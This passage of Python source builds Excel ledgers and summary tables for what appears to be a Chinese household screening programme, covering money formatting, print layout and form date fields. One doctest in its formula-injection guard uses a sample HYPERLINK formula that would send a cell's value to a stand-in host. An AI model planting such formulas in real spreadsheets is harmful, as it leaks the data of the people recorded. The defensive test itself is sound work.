    across = sum(sheet.column_dimensions[get_column_letter(i)].width or 8
                 for i in range(1, columns + 1))  # fmt: skip
    sheet.row_dimensions[row].height = 16 * (int(2 * len(note) // across) + 1)


# The amount columns (1-based) of the 摸排台账 and of the 汇总表.
LEDGER_MONEY = tuple(LEDGER_COLUMNS.index(name) + 1 for name in ("家庭人均月纯收入（元）",
                                                                 "涉及金额（元）"))  # fmt: skip
SUMMARY_MONEY = (len(SUMMARY_COLUMNS) - 1, len(SUMMARY_COLUMNS))


def money_cells(sheet: Worksheet, columns: Iterable[int], first_row: int) -> None:
    """Show the amounts (numbers) of these columns from ``first_row`` on in 元 with two
    decimals and thousands separators (``MONEY_FORMAT``: 2,870.70, never 2870.7 or 1E+11);
    the values stay numbers, and text (a note under the table) is left as it is.

    Parameters
    ----------
    sheet : Worksheet
        The sheet.
    columns : iterable of int
        The amount columns, 1-based.
    first_row : int
        The first row of the table's body.
    """
    for column in columns:
        for (cell,) in sheet.iter_rows(min_row=first_row, min_col=column, max_col=column):
            if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                cell.number_format = MONEY_FORMAT


def for_printing(sheet: Worksheet, heading_rows: int) -> None:
    """Set a sheet to print as the documents ask their tables handed in (盖章后的纸质件):
    landscape A4, one page wide, its title and header rows (the first ``heading_rows``)
    repeated on every page. Until 2026-12-07 (evening) a 21-column 摸排台账 printed portrait
    over several pages, its header on the first only.

    Parameters
    ----------
    sheet : Worksheet
        The sheet.
    heading_rows : int
        How many rows from the top repeat on each page.
    """
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight = 1, 0
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.print_title_rows = f"1:{heading_rows}"


def _sheet(book: Workbook, name: str, title: str, headers: tuple, rows: list[list]) -> Worksheet:
    sheet = book.create_sheet(_SHEET_UNSAFE.sub("", ILLEGAL_CHARACTERS_RE.sub("", name))[:31]
                              or "台账")  # fmt: skip
    sheet.append(text_cells(sheet, [title]))
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(headers))
    sheet["A1"].font = Font(bold=True, size=14)
    sheet["A1"].alignment = Alignment(horizontal="center")
    sheet.append(text_cells(sheet, list(headers)))
    for cell in sheet[2]:
        cell.font, cell.fill = Font(bold=True), HEADER_FILL
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    for row in rows:
        sheet.append(text_cells(sheet, row))
    sheet.freeze_panes = "A3"
    for_printing(sheet, 2)
    for index, header in enumerate(headers, 1):
        width = DATE_WIDTH if header in DATE_HEADERS else max(8, min(22, 2 * len(header)))
        sheet.column_dimensions[get_column_letter(index)].width = width
    return sheet


def chinese_date(day: date) -> str:
    """A day as forms write it.

    Parameters
    ----------
    day : date
        The day.

    Returns
    -------
    str
        ``2026年3月5日``.

    Examples
    --------
    >>> chinese_date(date(2026, 3, 5))
    '2026年3月5日'
    """
    return f"{day.year}年{day.month}月{day.day}日"


def filled_by(unit: str | None, made: date | None) -> tuple[str, str]:
    """The 填报单位 and 填报时间 of a form (the unit left blank for the office to fill in).

    Parameters
    ----------
    unit : str or None
        The 填报单位.
    made : date or None
        The 填报时间; today when None.

    Returns
    -------
    tuple of (str, str)
        ``填报单位：…`` and ``填报时间：…``.

    Examples
    --------
    >>> filled_by(None, date(2026, 3, 5))
    ('填报单位：', '填报时间：2026年3月5日')
    """
    return f"填报单位：{unit or ''}", f"填报时间：{chinese_date(made or date.today())}"


def text_cells(sheet: Worksheet, values: list) -> list:
    """A row's cells in which text is text: never a formula, whatever it starts with.

    Parameters
    ----------
    sheet : Worksheet
        The sheet the row is appended to.
    values : list
        The row's values: text, numbers or None.

    Returns
    -------
    list
        The values, each text as a string cell (characters a workbook cannot hold dropped,
        quote-prefixed when it starts like a formula) and every other value as it was.

    Examples
    --------
    >>> book = Workbook()
    >>> cells = text_cells(book.active, ['=HYPERLINK("http://x/?"&E3,"a")', "张三", 2.5, None])
    >>> [(cell.data_type, cell.quotePrefix) for cell in cells[:2]], cells[2:]
    ([('s', True), ('s', False)], [2.5, None])
    """
    cells: list = []
    for value in values:
        if not isinstance(value, str):
            cells.append(value)
            continue
        text = ILLEGAL_CHARACTERS_RE.sub("", value)  # dirty input may carry control characters
        cell = Cell(sheet)
        cell.value = text
        cell.data_type = "s"  # openpyxl makes text starting with "=" a formula
        if text.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
        cells.append(cell)
    return cells


def _bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
